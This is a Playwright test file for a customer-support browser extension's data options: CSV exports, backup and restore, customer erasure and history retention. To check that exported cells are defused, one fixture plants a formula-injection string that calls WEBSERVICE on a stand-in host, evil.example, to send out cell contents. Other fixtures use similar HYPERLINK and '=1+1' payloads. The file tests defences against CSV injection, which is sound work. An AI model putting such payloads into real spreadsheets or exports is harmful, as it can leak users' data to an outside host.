/**
 * Options "Data": exports that Excel opens safely (formula cells defused, Hangul intact), a backup
 * that brings an erased customer back, retention that deletes only old history, and a malformed
 * backup refused with nothing changed.
 */
import { readFile } from 'node:fs/promises';
import type { BrowserContext, Download, Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { optionsPageOpener } from './options-page';
import { readCustomer, seedCustomers, type EventSeed } from './seed-customers';

const openOptionsPage = optionsPageOpener();
const data = (page: Page) => page.getByRole('region', { name: 'Data', exact: true });
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const DAY = 24 * 60 * 60 * 1000;
const FORGED = '=1+1;=WEBSERVICE("https://evil.example/?"&A1)';
const daysAgo = (n: number) => new Date(Date.now() - n * DAY).toISOString();

const MINJI_EVENTS: EventSeed[] = [
  {
    customerHandle: 'minji_kim',
    kind: 'reply-sent',
    at: '2026-11-20T01:00:00.000Z',
    text: '불편을 드려 죄송합니다. 유심을 교체해 드리겠습니다.',
  },
  { customerHandle: 'minji_kim', kind: 'note', at: '2026-11-21T01:00:00.000Z', text: '대리점 방문 예정' },
  { customerHandle: 'minji_kim', kind: 'handoff', at: '2026-11-22T01:00:00.000Z', text: '콜센터 이관' },
];

async function openWithCustomers(context: BrowserContext, extensionId: string): Promise<Page> {
  const page = await openOptionsPage(context, extensionId);
  await seedCustomers(
    page,
    [
      {
        handle: 'minji_kim',
        displayHandle: 'Minji_Kim',
        name: '김민지',
        plan: '5G 프리미엄',
        phone: '+82 10-1234-5678',
        tags: ['vip', '유심'],
        attributes: { 지역: '서울' },
      },
      // Tags and a forged text whose later `;`-pieces are formulas: Excel with `;` as list separator
      // (German, French locales) splits cells there.
      { handle: 'prankster', name: '=HYPERLINK("x")', note: '@everyone -1', tags: ['vip', '=1+1'] },
    ],
    [...MINJI_EVENTS, { customerHandle: 'prankster', kind: 'note', at: '2026-11-23T01:00:00.000Z', text: FORGED }],
  );
  return page;
}

/** Clicks `button` and returns the file it downloads. */
async function download(page: Page, button: string): Promise<{ file: Download; bytes: Buffer }> {
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    data(page).getByRole('button', { name: button }).click(),
  ]);
  return { file, bytes: await readFile(await file.path()) };
}

test('exports open safely in Excel, and a backup brings an erased customer back', async ({ context, extensionId }) => {
  const page = await openWithCustomers(context, extensionId);
  const section = data(page);

  const customers = await download(page, 'Export customers (CSV)');
  await expect(section.getByRole('status')).toHaveText('Exported 2 customers');
  expect(customers.file.suggestedFilename()).toMatch(/^careline-customers-\d{4}-\d{2}-\d{2}\.csv$/);
  expect(customers.bytes.subarray(0, 3)).toEqual(BOM);
  const csv = customers.bytes.subarray(3).toString('utf8');
  expect(csv.split('\r\n')).toEqual([
    // Every cell quoted; every piece of a cell that starts with a formula character defused.
    '"handle","name","customer_id","phone","email","plan","tags","note","지역"',
    `"Minji_Kim","김민지","","'+82 10-1234-5678","","5G 프리미엄","vip;유심","","서울"`,
    `"prankster","'=HYPERLINK(""x"")","","","","","vip;'=1+1","'@everyone -1",""`,
    '',
  ]);

  const history = await download(page, 'Export history (CSV)');
  await expect(section.getByRole('status')).toHaveText('Exported 4 history entries');
  const rows = history.bytes.subarray(3).toString('utf8').split('\r\n');
  expect(rows[0]).toBe('"handle","at","kind","agent","tweet_url","status_id","template_id","text"');
  expect(rows).toContain(
    '"minji_kim","2026-11-20T01:00:00.000Z","reply-sent","","","","","불편을 드려 죄송합니다. 유심을 교체해 드리겠습니다."',
  );
  expect(rows).toContain(
    `"prankster","2026-11-23T01:00:00.000Z","note","","","","","'=1+1;'=WEBSERVICE(""https://evil.example/?""&A1)"`,
  );

  const backup = await download(page, 'Download backup (JSON)');
  await expect(section.getByRole('status')).toHaveText(
    /^Backup downloaded: 2 customers, 4 history entries, \d+ templates, 0 packs$/,
  );
  expect(JSON.parse(backup.bytes.toString('utf8'))).toMatchObject({
    format: 'careline-backup',
    version: 1,
    dbVersion: 6,
  });

  // Erase asks first, naming who; then the customer and all their history are gone, nobody else's.
  await section.getByLabel('Customer handle').fill('@MINJI_KIM');
  await section.getByRole('button', { name: 'Erase customer' }).click();
  const confirmErase = section.getByRole('group', { name: 'Confirm erase' });
  await expect(confirmErase).toContainText('Erase @Minji_Kim (김민지) and all their history?');
  await confirmErase.getByRole('button', { name: 'Erase', exact: true }).click();
  await expect(section.getByRole('status')).toHaveText('Erased @Minji_Kim and 3 history entries');
  expect(await readCustomer(page, 'minji_kim')).toEqual({ customer: undefined, events: [], allEvents: 1 });

  // Restore: says what it replaces, then everything is as it was at the backup.
  await section
    .getByLabel('Restore backup')
    .setInputFiles({ name: 'backup.json', mimeType: 'application/json', buffer: backup.bytes });
  const confirmRestore = section.getByRole('group', { name: 'Confirm restore' });
  await expect(confirmRestore).toContainText(
    /replaces everything Careline holds now — 1 customer, 1 history entry, \d+ templates and 0 packs — with the backup's 2 customers, 4 history entries/,
  );
  await confirmRestore.getByRole('button', { name: 'Replace everything' }).click();
  await expect(section.getByRole('status')).toHaveText(
    /^Restored 2 customers, 4 history entries, \d+ templates and 0 packs$/,
  );
  const restored = await readCustomer(page, 'minji_kim');
  expect(restored.customer).toMatchObject({
    displayHandle: 'Minji_Kim',
    name: '김민지',
    tags: ['vip', '유심'],
    attributes: { 지역: '서울' },
  });
  expect(restored.events.map((e) => e.text)).toEqual(MINJI_EVENTS.map((e) => e.text));
  expect(restored.allEvents).toBe(4);
});

test('a malformed backup is refused with where, and nothing changes', async ({ context, extensionId }) => {
  const page = await openWithCustomers(context, extensionId);
  const section = data(page);
  const input = section.getByLabel('Restore backup');
  const before = await readCustomer(page, 'minji_kim');

  const bad = {
    format: 'careline-backup',
    version: 1,
    exportedAt: '2026-11-29T00:00:00Z',
    dbVersion: 3,
    customers: [{ handle: 'someone', displayHandle: 'someone', attributes: {}, createdAt: 'c', updatedAt: 'u' }],
    events: [],
    templates: [],
    packs: [],
  };
  await input.setInputFiles({
    name: 'bad.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(bad)),
  });
  await expect(section.getByRole('alert')).toHaveText(
    'Could not restore bad.json: customers[0].tags: required. Nothing was changed.',
  );
  await expect(section.getByRole('group', { name: 'Confirm restore' })).toHaveCount(0);

  await input.setInputFiles({
    name: 'pack.json',
    mimeType: 'application/json',
    buffer: Buffer.from('{"format": "careline-templates", "version": 1}'),
  });
  await expect(section.getByRole('alert')).toContainText('Not a Careline backup');

  await input.setInputFiles({
    name: 'cut.json',
    mimeType: 'application/json',
    buffer: Buffer.from('{"format": "careline-backup",'),
  });
  await expect(section.getByRole('alert')).toContainText('Could not restore cut.json: Not valid JSON');
  expect(await readCustomer(page, 'minji_kim')).toEqual(before);
  expect(await readCustomer(page, 'someone')).toMatchObject({ customer: undefined });
});

test('retention deletes only history older than the days set, and the setting is kept', async ({
  context,
  extensionId,
}) => {
  const page = await openOptionsPage(context, extensionId);
  await seedCustomers(
    page,
    [{ handle: 'minji_kim' }],
    [
      { customerHandle: 'minji_kim', kind: 'note', at: daysAgo(100), text: 'old' },
      { customerHandle: 'minji_kim', kind: 'reply-sent', at: daysAgo(31), text: 'just too old' },
      { customerHandle: 'minji_kim', kind: 'note', at: daysAgo(29), text: 'recent' },
      { customerHandle: 'jordan', kind: 'note', at: daysAgo(1), text: 'yesterday' },
    ],
  );
  const section = data(page);
  const days = section.getByLabel('Delete history older than (days)');

  await days.fill('0');
  await section.getByRole('button', { name: 'Apply now' }).click();
  await expect(section.getByRole('alert')).toContainText('Enter a whole number of days');
  expect((await readCustomer(page, 'minji_kim')).events).toHaveLength(3);

  await days.fill('30');
  await section.getByRole('button', { name: 'Apply now' }).click();
  await expect(section.getByRole('status')).toHaveText('Deleted 2 history entries older than 30 days');
  const left = await readCustomer(page, 'minji_kim');
  expect(left.events.map((e) => e.text)).toEqual(['recent']);
  expect(left.allEvents).toBe(2);

  await page.reload();
  await expect(data(page).getByLabel('Delete history older than (days)')).toHaveValue('30');
  await data(page).getByLabel('Delete history older than (days)').fill('');
  await data(page).getByRole('button', { name: 'Save retention', exact: true }).click();
  await expect(data(page).getByRole('status')).toHaveText('Saved: history is kept forever');
});

test('storage usage is shown, and persistence can be asked for', async ({ context, extensionId }) => {
  const page = await openOptionsPage(context, extensionId);
  const section = data(page);
  await expect(section.getByText(/^\d[\d,.]* MB used of \d[\d,.]* MB$/)).toBeVisible();
  const persist = section.getByRole('button', { name: 'Keep data persistent' });
  if (await persist.isVisible()) {
    await persist.click();
    // Chromium decides (site engagement, installed app); either answer is shown.
    await expect(section.getByRole('status').or(section.getByRole('alert'))).toContainText(/persistent/);
  } else {
    await expect(section.getByText(/^Persistent:/)).toBeVisible();
  }
});
